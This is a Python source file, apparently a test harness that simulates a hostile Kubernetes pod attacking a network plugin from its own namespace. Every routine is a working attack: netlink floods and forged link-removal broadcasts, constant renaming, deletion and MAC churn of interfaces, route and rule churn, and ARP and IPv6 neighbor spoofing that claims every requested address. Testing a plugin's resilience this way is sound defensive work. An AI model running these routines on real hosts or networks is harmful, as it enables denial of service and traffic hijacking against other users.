"""Attacks of a hostile pod: run in its namespace as `python hostile.py ATTACK` until killed.

The file shares no code with the plugin.  An attack with preparations prints a line when it is ready.
"""

import itertools
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

NEWLINK, DELLINK, NEWADDR = 16, 17, 20
NEWROUTE, DELROUTE, NEWRULE, DELRULE, NEWLINKPROP = 24, 25, 32, 33, 108
CREATE = 0x1 | 0x400
IFNAME, ADDRESS, LINKINFO, ALIAS = 3, 1, 18, 20
SOL_NETLINK, GROUP_LINK = 270, 1
SOL_PACKET, PACKET_ADD_MEMBERSHIP, ALLMULTI = 263, 1, 2
SOLICITATION, ADVERTISEMENT = 135, 136


def message(kind: int, body: bytes, flags: int = 0x1, sequence: int = 0) -> bytes:
    return struct.pack("=IHHII", 16 + len(body), kind, flags, sequence, 0) + body


def attr(kind: int, payload: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(payload), kind) + payload + bytes(-len(payload) % 4)


def link(index: int, *attrs: bytes, flags: int = 0, mask: int = 0) -> bytes:
    return struct.pack("=BxHiII", 0, 0, index, flags, mask) + b"".join(attrs)


def name(text: str) -> bytes:
    return attr(IFNAME, text.encode() + b"\0")


def netlink() -> socket.socket:
    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)


def do(sock: socket.socket, *messages: bytes) -> None:
    """Request a change, and ignore the outcome."""
    data = b"".join(messages)
    if not data:  # the kernel would complain
        return
    with suppress(OSError):
        sock.sendto(data, (0, 0))
    with suppress(OSError):
        while sock.recv(65536, socket.MSG_DONTWAIT):
            pass


def indexes() -> list[int]:
    """The indexes of all links except the loopback."""
    return [index for index, text in socket.if_nameindex() if text != "lo"]


def ready() -> None:
    sys.stdout.write("ready\n")
    sys.stdout.flush()


def unicast() -> None:
    """Flood the netlink socket with the process number (argument) as its port, and every other listed socket."""
    sock, first, own = netlink(), int(sys.argv[2]), {0}
    sock.bind((0, 0))
    own.add(sock.getsockname()[0])
    sock.setblocking(False)
    junk = message(NEWLINK, link(1, name("hpn0")), 0) * 1000
    ready()
    while True:
        for _ in range(300):
            with suppress(OSError):
                sock.sendto(junk, (first, 0))
        with open("/proc/thread-self/net/netlink") as file:
            ports = {int(line.split()[2]) for line in file.read().splitlines()[1:] if line.split()[1] in ("0", "20")}
        for port in sorted(ports - own) * 20:
            with suppress(OSError):
                sock.sendto(junk, (port, 0))


def multicast() -> None:
    """Report to all listeners that every link is gone, in excessive messages."""
    sock = netlink()
    sock.setblocking(False)
    lies = [message(DELLINK, link(index), 0) + bytes(60000) for index in range(1, 300)]
    ready()
    for lie in itertools.cycle(lies):
        with suppress(OSError):
            sock.sendto(lie, (0, GROUP_LINK))


def announcements() -> None:
    """Make the kernel itself announce more about links than a socket can hold."""
    sock = netlink()
    do(sock, message(NEWLINK, link(0, name("chatty"), bridge()), CREATE))
    chatty = socket.if_nametoindex("chatty")
    ready()
    for n in itertools.count():
        do(sock, *(message(NEWLINK, link(chatty, attr(ALIAS, b"%d" % (n + k) * 20))) for k in range(50)))


def bridge() -> bytes:
    return attr(LINKINFO, attr(1, b"bridge\0"))


def renames() -> None:
    """Rename every link all the time."""
    sock = netlink()
    ready()
    for n in itertools.count():
        for index in indexes():
            do(sock, message(NEWLINK, link(index, name(f"r{index}x{n % 7}"))))
            do(sock, message(NEWLINK, link(index, name("hpn0"))))


def decoys() -> None:
    """Give the name and the MAC to another link."""
    sock = netlink()
    ready()
    for n in itertools.count():
        for index, text in socket.if_nameindex():
            if text == "hpn0":
                address = b"\2\0\0\0\0\1"
                with suppress(OSError):  # the link is gone again
                    address = bytes.fromhex(Path("/sys/class/net/hpn0/address").read_text().strip().replace(":", ""))
                do(sock, message(NEWLINK, link(index, name(f"was{n % 999}"), attr(ADDRESS, b"\2\0\0\0\0\1"))))
                do(sock, message(NEWLINK, link(0, name("hpn0"), attr(ADDRESS, address), bridge()), CREATE))
        for index in indexes():
            do(sock, message(DELLINK, link(index)) if n % 3 else b"")


def updown() -> None:
    sock = netlink()
    ready()
    for n in itertools.count():
        do(sock, *(message(NEWLINK, link(index, flags=n % 2, mask=1)) for index in indexes()))


def macs() -> None:
    sock = netlink()
    ready()
    for n in itertools.count():
        address = attr(ADDRESS, b"\2" + struct.pack("=IB", n, 7))
        do(sock, *(message(NEWLINK, link(index, address)) for index in indexes()))


def removals() -> None:
    sock = netlink()
    ready()
    while True:
        do(sock, *(message(DELLINK, link(index)) for index in indexes()))


def altnames() -> None:
    """Give links more altnames than an answer about a link can hold."""
    sock = netlink()
    ready()
    for n in itertools.count():
        for index in indexes():
            names = (attr(53, f"{n:06}".encode() * 20 + b"%d\0" % k) for k in range(100))
            do(sock, *(message(NEWLINKPROP, link(index, attr(52 | 0x8000, one)), CREATE) for one in names))


def links() -> None:
    """Create this many links (argument), and add and remove more all the time."""
    sock, wanted = netlink(), int(sys.argv[2])
    for first in range(0, wanted, 50):
        do(sock, *(message(NEWLINK, link(0, name(f"d{n}"), bridge()), CREATE) for n in range(first, first + 50)))
    ready()
    while True:
        do(sock, message(NEWLINK, link(0, name("more"), bridge()), CREATE))
        with suppress(OSError):
            do(sock, message(DELLINK, link(socket.if_nametoindex("more"))))


def _route(n: int) -> bytes:
    """A route to 10.128.0.0 or a later address, in one of 50 tables."""
    table = 100 + n % 50
    head = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, table, 4, 253, 1, 0)
    return head + attr(1, struct.pack("!I", 0x0A800000 + n)) + attr(4, struct.pack("=I", 1))


def _rule(n: int) -> bytes:
    head = struct.pack("=BBBBBxxBI", 2, 0, 32, 0, 100 + n % 50, 1, 0)
    return head + attr(2, struct.pack("!I", 0x0A800000 + n))


def _made(kind: int, undo: int, body: Callable[[int], bytes]) -> None:
    """Create this many objects (argument), and change them all the time."""
    sock, wanted = netlink(), int(sys.argv[2])
    for first in range(0, wanted, 200):
        do(sock, *(message(kind, body(n), CREATE) for n in range(first, first + 200)))
    ready()
    for n in itertools.cycle(range(wanted)):
        do(sock, message(undo, body(n)))
        do(sock, message(kind, body(n), CREATE))


def routes() -> None:
    _made(NEWROUTE, DELROUTE, _route)


def rules() -> None:
    _made(NEWRULE, DELRULE, _rule)


def addresses() -> None:
    """Remove the link's addresses, and add other pods' addresses: duplicate detection restarts again and again."""
    sock = netlink()
    ready()
    for n in itertools.count():
        for index in indexes():
            address = attr(1, bytes.fromhex("fd000056") + bytes(8) + struct.pack("!I", n % 250))
            body = struct.pack("=BBBBI", socket.AF_INET6, 64, 0, 0, index) + address
            do(sock, message(NEWADDR, body, CREATE))
            if n % 20 == 0:
                with suppress(OSError):  # the link has gone
                    name = socket.if_indextoname(index)
                    subprocess.run(["ip", "address", "flush", "dev", name], check=False, stderr=subprocess.DEVNULL)


def spoofs() -> None:
    """Claim every IPv4 address of an ARP request."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    ready()
    while True:
        frame, (interface, *_) = sock.recvfrom(2048)
        if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1":
            mac, asked = b"\2\xee\0\0\0\1", frame[38:42]
            arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + asked + frame[22:28] + bytes(4)
            with suppress(OSError):
                sock.sendto(b"\xff" * 6 + mac + b"\x08\x06" + arp, (interface, 0))


def claims() -> None:
    """Claim every IPv6 address of a neighbor solicitation."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    for index in indexes():
        everything = struct.pack("=iHH8x", index, ALLMULTI, 0)
        sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, everything)
    ready()
    while True:
        frame, (interface, *_) = sock.recvfrom(2048)
        if frame[12:14] == b"\x86\xdd" and frame[20] == socket.IPPROTO_ICMPV6 and frame[54] == SOLICITATION:
            mac, asked, all_nodes = b"\2\xee\0\0\0\1", frame[62:78], b"\xff\2" + bytes(13) + b"\1"
            head, body = struct.pack("!BB", ADVERTISEMENT, 0), struct.pack("!I", 0x20000000) + asked + b"\2\1" + mac
            pseudo = asked + all_nodes + struct.pack("!II", 32, socket.IPPROTO_ICMPV6)
            total = sum(struct.unpack("!36H", pseudo + head + b"\0\0" + body))
            while total >> 16:
                total = (total & 0xFFFF) + (total >> 16)
            ip = struct.pack("!IHBB", 6 << 28, 32, socket.IPPROTO_ICMPV6, 255) + asked + all_nodes
            message = head + struct.pack("!H", ~total & 0xFFFF) + body
            with suppress(OSError):
                sock.sendto(b"\x33\x33\0\0\0\1" + mac + b"\x86\xdd" + ip + message, (interface, 0))


if __name__ == "__main__":
    globals()[sys.argv[1]]()
